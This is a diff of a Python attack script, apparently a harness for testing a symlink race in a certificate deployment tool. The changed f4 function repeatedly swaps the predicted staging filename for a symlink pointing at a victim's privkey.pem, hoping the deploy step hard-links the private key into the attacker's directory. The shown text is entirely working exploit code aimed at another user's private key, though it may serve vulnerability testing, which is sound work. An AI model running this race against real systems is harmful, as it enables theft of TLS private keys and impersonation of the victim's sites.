@@ -95,22 +95,22 @@ def f3() -> None:
 
 
 def f4() -> None:
-    """Replace the freshly staged file with a symlink to the victim file before the switch."""
+    """Keep replacing the name the next version is staged under with a symlink to the victim
+    file (a tight rename loop, so it is a symlink at almost any instant), hoping the switch
+    hard-links through it."""
     target = os.path.join(victim, "0001", "privkey.pem")
-    before = set(os.listdir(deploy))
+    staged = os.path.join(deploy, ".www.pem.certd-0002")
+    tmp = staged + ".attacker"
     say("ready")
+    flips = 0
     while going():
-        for n in os.listdir(deploy):
-            if n.startswith(".www.pem.certd-") and n[-1].isdigit() and n not in before:
-                p = os.path.join(deploy, n)
-                if not os.path.islink(p):
-                    tmp = p + ".attacker"
-                    os.symlink(target, tmp)
-                    os.rename(tmp, p)
-                    say(f"f4: {n} -> victim")
-                    return
-        time.sleep(0.0002)
-    say("f4: nothing staged")
+        try:
+            os.symlink(target, tmp)
+            os.rename(tmp, staged)
+            flips += 1
+        except OSError:
+            pass
+    say(f"f4: {flips} flips")
 
 
 {"f1": f1, "f2": f2, "f3": f3, "f4": f4}[attack]()
